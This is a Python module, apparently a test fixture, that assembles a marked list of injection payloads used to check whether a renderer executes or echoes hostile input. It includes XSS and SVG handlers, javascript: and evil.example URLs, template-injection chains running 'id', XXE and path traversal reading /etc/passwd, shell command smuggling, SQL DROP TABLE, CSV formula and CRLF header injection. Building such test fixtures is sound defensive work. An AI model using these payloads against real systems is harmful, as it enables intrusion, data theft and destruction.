"""Texts that attack whoever shows them: each would leave its own mark if it came to be run.

    PAYLOADS[0]  ->  "<script>window.kuri000=1</script>"

`MARKS` are in the same order. A browser in which `kuri000` is a global has run that payload, or
took an element of it for its own; a page that shows the payload says the mark somewhere.
"""

_ELEMENTS = (
    "<script>window.MARK=1</script>",
    "<ScRiPt src=//evil.example/MARK.js></sCrIpT>",
    "<scr<script>ipt>window.MARK=1</scr</script>ipt>",
    "</title><script>window.MARK=1</script>",
    "</textarea><script>window.MARK=1</script>",
    "</script><script>window.MARK=1</script>",
    "<!--><script>window.MARK=1</script-->",
    "<![CDATA[<script>window.MARK=1</script>]]>",
    "<img src=x onerror=window.MARK=1>",
    '<img src="//evil.example/MARK.png">',
    '<iframe srcdoc="<script>parent.MARK=1</script>"></iframe>',
    '<iframe src="javascript:parent.MARK=1">',
    '<object data="//evil.example/MARK">',
    "<embed src=//evil.example/MARK.swf>",
    '<base href="//evil.example/MARK/">',
    '<meta http-equiv=refresh content="0;url=//evil.example/MARK">',
    "<link rel=stylesheet href=//evil.example/MARK.css>",
    '<style>@import "//evil.example/MARK.css";</style>',
    "<form action=//evil.example/MARK><input autofocus onfocus=window.MARK=1>",
    "<details open ontoggle=window.MARK=1>",
    "<video><source onerror=window.MARK=1></video>",
    "<body onload=window.MARK=1>",
    "<marquee onstart=window.MARK=1>",
    "<math><mtext><style><img src onerror=window.MARK=1></style></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=window.MARK=1>">',
    "<template><script>window.MARK=1</script></template>",
    "<a id=MARK name=MARK>clobber</a>",
    "<button form=ask formaction=//evil.example/MARK>send</button>",
    "<dialog open><input name=password value=MARK></dialog>",
    '<div style="background:url(//evil.example/MARK)">',
    "&lt;script&gt;window.MARK=1&lt;/script&gt;",
    "&#60;script&#62;window.MARK=1&#x3c;/script&#x3e;",
)
_DRAWINGS = (
    "<svg onload=window.MARK=1>",
    '<svg><script href="data:,window.MARK=1"/></svg>',
    "<svg><animate onbegin=window.MARK=1 attributeName=x>",
    "<svg><foreignObject><iframe onload=window.MARK=1></foreignObject></svg>",
    '<svg><use href="//evil.example/MARK.svg#x"/></svg>',
)
_ATTRIBUTES = (
    '" onmouseover="window.MARK=1" x="',
    "' onmouseover='window.MARK=1' x='",
    '" autofocus onfocus=window.MARK=1 x=',
    "` onmouseover=window.MARK=1 x=`",
    '"><script>window.MARK=1</script>',
    "'><svg/onload=window.MARK=1>",
    r"\" onfocus=\"window.MARK=1",
    'x" style="position:fixed;inset:0" data-x="MARK',
    '" data-collect href="javascript:window.MARK=1',
)
_ADDRESSES = (
    "javascript:window.MARK=1",
    "JaVaScRiPt:window.MARK=1",
    "java\tscript:window.MARK=1",
    "\x01javascript:window.MARK=1",
    "javascript://evil.example/%0awindow.MARK=1",
    "data:text/html,<script>opener.MARK=1</script>",
    'vbscript:MsgBox("MARK")',
    "//evil.example/MARK",
    r"/\evil.example/MARK",
    "https://evil.example/MARK",
    "http:evil.example/MARK",
    "\t//evil.example/MARK",
    r"https:\\evil.example\MARK",
    "http://testserver@evil.example/MARK",
)
_TEMPLATES = (
    "{{ 7*7 }}MARK",
    "{% for x in ().__class__.__base__.__subclasses__() %}MARK{% endfor %}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}MARK",
    "{{constructor.constructor('window.MARK=1')()}}",
    "${7*7}MARK",
    "#{7*7}MARK",
    "<%= 7*7 %>MARK",
    "{0.__class__.__mro__}MARK{MARK}",
    "%(MARK)s %s %n",
    '#eval("MARK") #import "MARK.typ"',
    r"\input{/etc/passwd}\href{javascript:MARK}{x}",
)
_STYLES = (
    "}</style>*{background:url(//evil.example/MARK)}",
    "width:expression(window.MARK=1)",
)
_MARKDOWN = (
    "[MARK](javascript:window.MARK=1)",
    "![MARK](//evil.example/MARK.png)",
    "<javascript:window.MARK=1>",
    '[x]: javascript:window.MARK=1 "MARK"',
    "# MARK\n\n***\n\n> <b>MARK</b>",
    "```html\n<script>window.MARK=1</script>",
    "| MARK | <b>cell</b> |",
    "MARK\n===\n- [ ] x",
)
_LINES = (
    "MARK\r\nSet-Cookie: MARK=1",
    "MARK%0d%0aLocation: https://evil.example/",
    "MARK\r\n\r\n<script>window.MARK=1</script>",
    "MARK嘊嘍Set-Cookie:MARK=1",
    "MARK\nTY  - BOOK\nER  - ",
)
_XML = (
    "]]><script>window.MARK=1</script>",
    '<!DOCTYPE x [<!ENTITY MARK SYSTEM "file:///etc/passwd">]>&MARK;',
    "</title></entry><entry><title>MARK",
    '<?xml-stylesheet href="//evil.example/MARK.xsl"?>',
    "&MARK;&amp;&#x0;",
)
_SHEETS = (
    '=HYPERLINK("https://evil.example/MARK","x")',
    "+cmd|' /C calc'!MARK",
    "@SUM(1+1)*MARK",
    "-2+3+MARK",
)
_LETTERS = (
    "MARK\u202egnp.exe",
    "\u2066MARK\u2069\u200f",
    "MARK\x00<script>window.MARK=1</script>",
    "MARK\ufeff\u200b\u00ad\u2060",
    "＜script＞window.MARK=1＜/script＞",
    "MARK\u2028window.MARK=1\u2029",
    "مرحبا MARK שלום",
    "MARK e" + "\u0301" * 40,
    "MARK\ufffe\uffff\U0010ffff",
    "\x1b[31mMARK\x07\x08",
    "MARK\U000e0041\U000e0042",
)
_PROGRAMS = (
    "../../../../etc/passwd?MARK",
    "..%2f..%2fetc%2fpasswd MARK",
    "file:///etc/passwd#MARK",
    "MARK; cat /etc/passwd | sh `id` $(id)",
    "MARK' OR '1'='1'; DROP TABLE documents;--",
    "%00MARK%ff%c0%ae",
    '"},"MARK":{"x":"',
    "__proto__[MARK]=1",
)
_KINDS = (
    _ELEMENTS, _DRAWINGS, _ATTRIBUTES, _ADDRESSES, _TEMPLATES, _STYLES, _MARKDOWN, _LINES, _XML,
    _SHEETS, _LETTERS, _PROGRAMS,
)  # fmt: skip

_ALL = [text for kind in _KINDS for text in kind]
MARKS = [f"kuri{n:03}" for n in range(len(_ALL))]
PAYLOADS = [text.replace("MARK", mark) for text, mark in zip(_ALL, MARKS, strict=True)]
